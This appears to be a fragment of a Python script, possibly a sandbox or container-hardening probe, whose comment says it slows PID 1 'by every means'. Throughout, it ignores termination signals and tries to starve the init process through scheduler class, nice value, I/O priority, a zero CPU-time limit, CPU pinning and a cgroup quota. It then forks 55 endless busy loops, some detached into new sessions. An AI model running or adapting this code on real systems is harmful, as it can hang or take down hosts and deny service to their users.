# Slows PID 1 down by every means and keeps the processors busy, deaf to all that can be ignored.
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGCHLD):
    signal.signal(number, signal.SIG_IGN)
for deed in (
    lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
    lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
    lambda: call("ioprio_set", 1, 1, 3 << 13),
    lambda: call("prlimit64", 1, 0, struct.pack("QQ", 0, 0), None),
    lambda: os.sched_setaffinity(1, {0}),
    lambda: open("/sys/fs/cgroup/cpu/cpu.cfs_quota_us", "w").write("1000"),
):
    try:
        deed()
        print("SUCCEEDED", flush=True)
    except OSError:
        pass
loops = 0
for number in range(55):
    child = os.fork()
    if child == 0:
        if number % 2:
            os.setsid()
        while True:
            pass
    loops += 1
print(f"{loops} loops", flush=True)
while True:
    pass
